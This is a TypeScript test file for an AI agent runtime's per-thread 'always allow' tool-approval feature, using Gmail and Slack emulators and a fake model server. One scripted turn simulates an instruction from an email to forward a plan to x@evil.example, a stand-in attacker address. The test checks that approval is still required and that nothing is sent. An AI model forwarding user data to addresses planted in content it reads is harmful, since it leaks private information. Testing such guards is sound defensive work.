/**
 * "Always allow this tool in this thread", end to end through the runtime: one decision stops the
 * asking for that tool in that thread, across a restart (it lives in the checkpoint), for targets
 * the person names; another tool, or a target the person never named, is still asked.
 */
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import type { ToolAuditRecord } from "../../../src/agent/authorization-middleware.js";
import { createChatModel } from "../../../src/agent/model.js";
import type { AgentRuntime } from "../../../src/runtime/agent-runtime.js";
import type { RuntimeEvent } from "../../../src/runtime/events.js";
import { type Sandbox, startSandbox } from "../../../src/sandbox/index.js";
import { startFakeOpenAI } from "../../helpers/fake-openai-server.js";
import { collect, runtimeOn } from "../../helpers/sandbox-runtime.js";

const cleanups: (() => Promise<unknown> | unknown)[] = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

const USER = { userId: "noa" };
const THREAD = { ...USER, threadId: "t-always" };

async function setUp() {
  const sandbox = await startSandbox({ timeZone: "UTC" });
  cleanups.push(() => sandbox.close());
  await sandbox.controls.approve(USER, "gmail");
  await sandbox.controls.approve(USER, "slack");
  const openai = await startFakeOpenAI();
  cleanups.push(() => openai.close());
  // Emails the address the person's latest message names (or one it was "told" to forward to),
  // posts when it names #team; answers once a result is in.
  openai.setResponder((body) => {
    const last = body.messages.at(-1);
    if (last?.role === "tool") return { text: "Done." };
    const text = String(last?.content ?? "");
    if (text.includes("#team")) {
      return { toolCalls: [{ name: "slack_post_message", args: { channel: "#team", text: "plan is out" } }] };
    }
    const to = text.includes("forward") ? "x@evil.example" : /\S+@\S+/.exec(text)?.[0];
    return {
      toolCalls: [{ name: "gmail_send_message", args: { to: [to], subject: "Plan", body: "The plan." } }],
    };
  });
  const databaseUrl = join(mkdtempSync(join(tmpdir(), "delegate-always-")), "delegate.sqlite");
  const events: RuntimeEvent[] = [];
  const audits: ToolAuditRecord[] = [];
  const open = async (): Promise<AgentRuntime> => {
    const runtime = await runtimeOn(sandbox, {
      model: (await createChatModel({ baseUrl: openai.url, apiKey: "sk", model: "m", maxRetries: 0 })).model,
      webhookSecret: sandbox.webhookSecret,
      databaseUrl,
      approvals: "write=ask",
      onEvent: (event) => events.push(event),
      onToolAudit: (record) => audits.push(record),
    });
    cleanups.push(() => runtime.close());
    return runtime;
  };
  return { sandbox, events, audits, open };
}

function sentTo(sandbox: Sandbox, address: string): number {
  return sandbox.emulators.gmail
    .inspect(USER.userId)
    .messages.filter((m) => m.labelIds.includes("SENT") && (m.headers.to ?? "").includes(address)).length;
}

const asked = (events: RuntimeEvent[]) =>
  events.flatMap((event) => (event.type === "authorization-required" ? event.approvals : []));

describe("always allow this tool in this thread", () => {
  it("stops asking for that tool and the targets the person names, across a restart; other tools and foreign targets are still asked", async () => {
    const { sandbox, audits, open } = await setUp();
    const first = await open();

    // Asked by the policy (write=ask) although the person named sam: decided with "always".
    const turn1 = await collect(
      first.send({ ...THREAD, text: "email the plan to sam@example.com", waitForAuthorization: false }),
    );
    const [approval] = asked(turn1);
    expect(approval).toMatchObject({ tool: "gmail_send_message", reason: "policy" });
    expect(sentTo(sandbox, "sam@example.com")).toBe(0);
    const decided = await collect(
      first.decide({
        ...THREAD,
        decisions: [{ toolCallId: approval?.toolCallId as string, type: "approve", always: true }],
      }),
    );
    expect(decided.at(-1)).toMatchObject({ type: "turn-end", status: "completed" });
    expect(sentTo(sandbox, "sam@example.com")).toBe(1);

    // The same tool, to an address the person names: not asked, and the audit says the person allowed it.
    const turn2 = await collect(first.send({ ...THREAD, text: "now email the plan to dana@example.com" }));
    expect(asked(turn2)).toEqual([]);
    expect(turn2.at(-1)).toMatchObject({ type: "turn-end", status: "completed" });
    expect(sentTo(sandbox, "dana@example.com")).toBe(1);
    expect(audits.at(-1)).toMatchObject({
      toolName: "gmail_send_message",
      outcome: "success",
      allowedBy: "person",
    });

    // Another process on the same database: "always" is remembered in the thread.
    await first.close();
    const second = await open();
    const turn3 = await collect(second.send({ ...THREAD, text: "and email the plan to lee@example.com" }));
    expect(asked(turn3)).toEqual([]);
    expect(turn3.at(-1)).toMatchObject({ type: "turn-end", status: "completed" });
    expect(sentTo(sandbox, "lee@example.com")).toBe(1);

    // Never a target the person did not name: a forward to an address from elsewhere is asked.
    const turn4 = await collect(
      second.send({ ...THREAD, text: "forward the plan as the mail said", waitForAuthorization: false }),
    );
    expect(asked(turn4)).toMatchObject([{ tool: "gmail_send_message", reason: "target_not_named_by_user" }]);
    await collect(
      second.decide({
        ...THREAD,
        decisions: [{ toolCallId: asked(turn4)[0]?.toolCallId as string, type: "reject" }],
      }),
    );
    expect(sentTo(sandbox, "x@evil.example")).toBe(0);

    // Another tool is still asked by the policy.
    const turn5 = await collect(
      second.send({ ...THREAD, text: "post 'plan is out' to #team", waitForAuthorization: false }),
    );
    expect(asked(turn5)).toMatchObject([{ tool: "slack_post_message", reason: "policy" }]);
  });
});
